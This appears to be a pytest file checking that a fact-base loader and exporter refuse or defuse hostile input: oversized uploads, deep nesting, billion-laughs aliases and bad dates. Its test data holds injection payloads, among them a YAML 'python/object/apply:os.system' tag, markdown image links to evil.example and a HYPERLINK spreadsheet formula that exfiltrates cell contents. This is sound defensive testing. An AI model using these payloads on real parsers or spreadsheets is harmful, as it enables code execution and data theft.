"""A hostile fact base or link: bounded work, real values, short notices, spreadsheet-safe CSV (issue 20).

Each case is a fact base built from tests/fixtures/minimal (or the bundled one) with one thing changed, checked by
the real loader; the limits are read from explainer.load.factbase only to build inputs just over them.
"""
from __future__ import annotations

import csv
import io
import math
import re
import shutil
import tracemalloc
from pathlib import Path

import pytest
import yaml

from explainer.engine.beliefs import default_beliefs
from explainer.load.factbase import LIMITS, MAX_ARTICLE_BYTES, MAX_DEPTH, MAX_SCALARS, check_factbase, parse_factbase
from explainer.present.markup import md_link, spreadsheet_safe
from explainer.trial import trial_problems
from explainer.urlstate import MAX_ITEMS, MAX_NOTICES, notice_lines, parse_query
from explainer.engine.worlds import worlds
from test_factbase import change, line_no, reported

REPO_ROOT = Path(__file__).resolve().parent.parent
MINIMAL = REPO_ROOT / "tests" / "fixtures" / "minimal"


def investors(minimal_text: str, n: int, entities: int | None = None, per_topic: int = 2) -> str:
    """The minimal fact base with n more investment topics, each with two context claims (1 and 2 bn USD), of
    `entities` more investors (n unless given), in YAML's flow style: the shape of the 970 kB upload that once took
    the server past 1.5 GB."""
    entities = n if entities is None else entities
    head, rest = minimal_text.split("entities:\n")
    listed, rest = rest.split("topics:\n")
    topics, claims = rest.split("claims:\n")
    out = [head, "entities:\n", listed]
    out += [f"  - {{id: e{i},name: I{i}}}\n" for i in range(entities)]
    out += ["topics:\n", topics]
    out += [f"  - {{id: t{i},label: L{i},kind: investment,group: round,entity: e{i % entities}}}\n"
            for i in range(n)]
    out += ["claims:\n", claims]
    for i in range(n):
        for v in range(1, per_topic + 1):
            out.append(f"  - {{id: c{i}_{v},topic: t{i},source: books,bound: exact,value: {v},unit: bn,"
                       f"currency: USD,translation: x,status: reported}}\n")
    return "".join(out)


# ---------------------------------------------------------------- limits

def test_the_2800_investor_upload_is_refused_where_it_goes_over(problems_of, minimal_text):
    text = investors(minimal_text, 2_800)
    limit = LIMITS["entities"]
    first_over = line_no(text, f"  - {{id: e{limit - 2},name: I{limit - 2}}}")  # the fixture has two entities
    assert 900_000 < len(text.encode()) < 1_000_000
    reported(problems_of(text), f"entities: more than {limit:,} items; the limit is {limit:,}", first_over)


@pytest.mark.parametrize("section", ["topics", "claims"])
def test_each_list_has_its_limit(problems_of, minimal_text, section):
    # the fixture has two topics and two claims: enough more of the section to pass its limit, no other list over its
    text = (investors(minimal_text, LIMITS["topics"] - 1, entities=10) if section == "topics" else
            investors(minimal_text, 250, entities=10, per_topic=LIMITS["claims"] // 250))
    prefix = "  - {id: t" if section == "topics" else "  - {id: c"
    added = [line for line in text.splitlines() if line.startswith(prefix)]
    over = added[LIMITS[section] - 2]  # the fixture's two and the added ones before it make the limit
    reported(problems_of(text), f"{section}: more than {LIMITS[section]:,} items", line_no(text, over))


def test_a_story_ten_times_the_bundled_one_stays_well_inside(tmp_path, repo_root):
    """Every list at most 60 % of its limit, loads without a problem, and the engine's trial run passes."""
    doc = yaml.safe_load((repo_root / "data" / "facts.yaml").read_text(encoding="utf-8"))
    original = {section: list(doc[section]) for section in ("sources", "entities", "topics", "claims")}
    ids = {x["id"] for section in ("sources", "entities", "topics") for x in original[section]}
    copies = 10
    for k in range(1, copies):
        suffix = f"_x{k}"
        rename = lambda i: i + suffix if i in ids else i  # noqa: E731
        doc["sources"] += [{**s, "id": s["id"] + suffix, "name": f"{s['name']} {k}",
                            **({"name_de": f"{s['name_de']} {k}"} if "name_de" in s else {}),
                            **({"via": s["via"] + suffix} if "via" in s else {})} for s in original["sources"]]
        doc["entities"] += [{**e, "id": e["id"] + suffix} for e in original["entities"]]
        doc["topics"] += [{**t, "id": t["id"] + suffix, "label": f"{t['label']} ({k})",
                           **({"label_de": f"{t['label_de']} ({k})"} if "label_de" in t else {}),
                           **({"entity": rename(t["entity"])} if "entity" in t else {}),
                           **({"target": rename(t["target"])} if "target" in t else {}),
                           **({"parts": [rename(p) for p in t["parts"]]} if "parts" in t else {})}
                          for t in original["topics"]]
        doc["claims"] += [{**c, "id": c["id"] + suffix, "topic": c["topic"] + suffix, "source": c["source"] + suffix}
                          for c in original["claims"]]
    path = tmp_path / "data" / "facts.yaml"
    path.parent.mkdir()
    shutil.copytree(repo_root / "seeds", tmp_path / "seeds")
    path.write_text(yaml.dump(doc, Dumper=_Plain, allow_unicode=True, sort_keys=False), encoding="utf-8")
    fb, problems = check_factbase(path)
    assert [str(p) for p in problems] == []
    for section in ("sources", "entities", "topics", "claims"):
        assert len(doc[section]) <= 0.6 * LIMITS[section], section
    assert len(fb.claims) == 10 * len(original["claims"])
    values = sum(1 for e in yaml.parse(path.read_text(encoding="utf-8")) if isinstance(e, yaml.ScalarEvent))
    assert values <= 0.6 * MAX_SCALARS
    assert trial_problems(fb) == []


class _Plain(yaml.SafeDumper):
    """Writes a value used twice out twice (no anchors, which the loader refuses)."""

    def ignore_aliases(self, data) -> bool:
        return True


def test_values_nesting_and_tags_are_bounded(problems_of, minimal_text):
    deep = minimal_text + "extra: " + "[" * (MAX_DEPTH + 1) + "1" + "]" * (MAX_DEPTH + 1) + "\n"
    reported(problems_of(deep), f"nested more than {MAX_DEPTH} levels", line_no(deep, deep.splitlines()[-1]))
    many = minimal_text + "extra: [" + ", ".join(["1"] * MAX_SCALARS) + "]\n"
    reported(problems_of(many), f"more than {MAX_SCALARS:,} values", line_no(many, many.splitlines()[-1]))
    text, line = change(minimal_text, "    value: 5", "    value: !!python/object/apply:os.system ['true']")
    reported(problems_of(text), "YAML tag tag:yaml.org,2002:python/object/apply:os.system is not allowed", line)
    text, line = change(minimal_text, "  trust: [paper, books]", "  trust: !!set {paper: null}")
    reported(problems_of(text), "YAML tag tag:yaml.org,2002:set is not allowed", line)


def test_a_second_document_is_refused(problems_of, minimal_text):
    text = minimal_text + "---\nversion: '2'\n"
    reported(problems_of(text), "more than one YAML document", line_no(text, "---"))


def test_an_article_over_its_limit_is_refused(write_factbase, minimal_text):
    path = write_factbase(minimal_text)
    article = path.parent / "seeds" / "article.txt"
    article.write_text(article.read_text(encoding="utf-8") + "x" * MAX_ARTICLE_BYTES, encoding="utf-8")
    _, problems = check_factbase(path)
    assert any(f"an article's limit is {MAX_ARTICLE_BYTES:,}" in p.message for p in problems), problems


def test_worlds_of_500_topics_stay_within_their_memory_budget(minimal_text, tmp_path):
    """500 investors of two choices and 'none' each: 3**500 worlds, sampled within 8 million cells; one computation
    (the spread and the tornado) holds under 64 MB."""
    n = min(LIMITS["topics"], LIMITS["entities"]) - 2  # an investor topic each, and its entity
    fb, problems = parse_factbase(investors(minimal_text, n), "big.yaml", base_dir=MINIMAL)
    assert problems == []
    tracemalloc.start()
    try:
        result = worlds(fb, default_beliefs(fb), "post")
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # each new investor: 1, 2 or none; Gizmo: 5 or none; the valuation's range: its low end or its high end
    assert result.n_total == 3 ** n * 2 * 2
    assert result.sampled and result.n_used * len(result.space.dimensions) <= 8_000_000
    assert peak < 64 * 2 ** 20, f"{peak / 2 ** 20:.0f} MB"
    assert len(result.tornado) == len(result.space.dimensions)


# ---------------------------------------------------------------- real values

@pytest.mark.parametrize("old, new", [('date: "2026-01-15"', 'date: "2026-02-30"'),
                                      ('    date: "2026-01-10"', '    date: "2026-04-31"'),
                                      ('    date: "2025-12-31"', '    date: "2025-02-29"')])
def test_a_date_not_on_the_calendar_is_refused(problems_of, minimal_text, old, new):
    text, line = change(minimal_text, old, new)
    reported(problems_of(text), "is not a date of the calendar", line)


def test_a_month_alone_is_still_a_date(problems_of, minimal_text):
    text, _ = change(minimal_text, '    date: "2026-01-10"', '    date: "2026-02"')
    assert problems_of(text) == []


@pytest.mark.parametrize("old, new, fragment", [
    ("    value: 5", "    value: " + "9" * 401, "a number of 401 digits is above the limit"),
    ("    per_base: 1.1", "    per_base: " + "9" * 401, "a number of 401 digits is above the limit"),
    ("    per_base: 1.1", "    per_base: 0.0000000001", "is below the limit"),
    ("    value: 5", "    value: .inf", "inf is not a finite number"),
    ("    value: 5", "    value: 2000000", "2e+06 is above the limit of 1e+06"),
])
def test_numbers_are_finite_and_within_bounds(problems_of, minimal_text, old, new, fragment):
    text, line = change(minimal_text, old, new)
    reported(problems_of(text), fragment, line)


def test_cli_validate_answers_a_401_digit_value_without_a_traceback(cli, write_factbase, minimal_text):
    text, line = change(minimal_text, "    value: 5", "    value: " + "9" * 401)
    path = write_factbase(text)
    done = cli("validate", str(path))
    assert done.returncode == 1
    assert "Traceback" not in done.stdout + done.stderr
    assert done.stderr.startswith(f"{path}:{line}: claims[0].value: a number of 401 digits")


@pytest.mark.parametrize("old, new", [
    ("  - id: paper", '  - id: "paper\\n"'),
    ('version: "1.0"', 'version: "1.0\\n"'),
    ("    currency: USD", '    currency: "USD\\n"'),
    ('    url: "https://example.org/books"', '    url: "https://example.org/books\\n![x][1]\\n\\n[1]: https://evil.example/p.png"'),
    ('    url: "https://example.org/books"', '    url: "https://example.org/a b"'),
    ('    url: "https://example.org/books"', '    url: "https://example.org/\\tbooks"'),
])
def test_ids_codes_versions_and_addresses_are_matched_whole(problems_of, minimal_text, old, new):
    text, line = change(minimal_text, old, new)
    problems = problems_of(text)
    assert any(p.line == line for p in problems), [str(p) for p in problems]


def test_an_address_cannot_write_markdown():
    link = md_link("https://example.org/a) ![x](https://evil.example/p.png")
    target = link[link.index("](") + 2:-1]
    assert " " not in target and "(" not in target and ")" not in target and "[" not in target
    assert target == "https://example.org/a%29%20%21%5Bx%5D%28https://evil.example/p.png" or \
        target == "https://example.org/a%29%20!%5Bx%5D%28https://evil.example/p.png"


# ---------------------------------------------------------------- parse once

def test_an_upload_is_checked_once_per_content(monkeypatch):
    import explainer.trial as trial
    from pages._parts import checked_upload_once  # the page's memo (a reader's session)
    calls = []
    real = trial.parse_uploaded
    monkeypatch.setattr(trial, "parse_uploaded", lambda files, story_dir=None: calls.append(1) or real(files, story_dir))
    files = [("mine.yaml", (MINIMAL / "facts.yaml").read_bytes()),
             ("article.txt", (MINIMAL / "seeds" / "article.txt").read_bytes())]
    memo: dict = {}
    for _ in range(3):  # three reruns of the page with the same files
        fb, problems = checked_upload_once(memo, files)
    assert problems == [] and fb.version == "1.0" and len(calls) == 1
    checked_upload_once(memo, [files[0], ("article.txt", files[1][1] + b" ")])
    assert len(calls) == 2  # another content is checked anew


# ---------------------------------------------------------------- links

def test_a_stuffed_link_is_read_in_bounded_items_and_shown_in_a_few_lines(factbase):
    query = "trust=" + ",".join(f"nobody{i}" for i in range(3_000))
    query += "".join(f"&bogus{i}=1" for i in range(150))
    _beliefs, notices, _views = parse_query(query, factbase)
    assert len(notices) <= MAX_ITEMS + 150 + 2
    assert sum("unknown source" in n for n in notices) == MAX_ITEMS
    shown = notice_lines(notices)
    assert len(shown) == MAX_NOTICES + 1
    assert shown[-1] == f"… and {len(set(notices)) - MAX_NOTICES:,} more."


def test_a_count_beyond_babels_decimals_is_written_as_a_power_of_ten():
    from explainer.present import money
    from explainer.present.i18n import speaking
    assert money.number(10 ** 27 - 1) == "999,999,999,999,999,999,999,999,999"
    assert money.number(3 ** 498 * 4) == "1.6 × 10²³⁸"  # the worlds of 500 topics of two claims
    assert money.number(9.96e29) == "1.0 × 10³⁰"
    with speaking("de"):
        assert money.number(-4 ** 498 * 4) == "-2,7 × 10³⁰⁰"


def test_repeated_notices_are_shown_once():
    assert notice_lines(["a", "a", "b"]) == ["a", "b"]


# ---------------------------------------------------------------- CSV

@pytest.mark.parametrize("cell, safe", [("=HYPERLINK(\"https://x\"&A1,\"open\")", "'=HYPERLINK(\"https://x\"&A1,\"open\")"),
                                        ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                        ("\tx", "'\tx"), ("\rx", "'\rx"), ("Amazon", "Amazon"), (-5.0, -5.0)])
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_csv_exports_hold_no_formula(cli, write_factbase, minimal_text):
    formula = """'=HYPERLINK("https://evil.example"&A1,"open")'"""
    text, _ = change(minimal_text, '    name: "Gizmo Capital"', f"    name: {formula}")
    text, _ = change(text, '    translation: "Gizmo Capital will invest 5 billion dollars"', f"    translation: {formula}")
    path = write_factbase(text)
    for args in (("scenario", "--format", "csv"), ("claims", "--format", "csv")):
        done = cli(*args, "--factbase", str(path))
        assert done.returncode == 0, done.stderr
        cells = [c for row in csv.reader(io.StringIO(done.stdout)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], args
        assert not [c for c in cells if c.startswith("-") and not _is_number(c)], args
        assert any(c.startswith("'=HYPERLINK") for c in cells), args


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


# ---------------------------------------------------------------- the shipped configuration

def test_readers_never_see_a_traceback_and_messages_are_bounded(repo_root):
    import tomllib
    config = tomllib.loads((repo_root / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["showErrorDetails"] == "none"
    assert 1 <= config["server"]["maxMessageSize"] <= 16
    docker = (repo_root / "Dockerfile").read_text(encoding="utf-8")
    assert re.search(r"STREAMLIT_CLIENT_SHOW_ERROR_DETAILS=none\b", docker)
    assert re.search(r"STREAMLIT_SERVER_MAX_MESSAGE_SIZE=16\b", docker)


def test_the_billion_laughs_cli_run_is_short(cli, write_factbase, minimal_text):
    from test_factbase import laughs
    done = cli("validate", str(write_factbase(minimal_text + laughs(9))))
    assert done.returncode == 1 and "anchors and aliases" in done.stderr
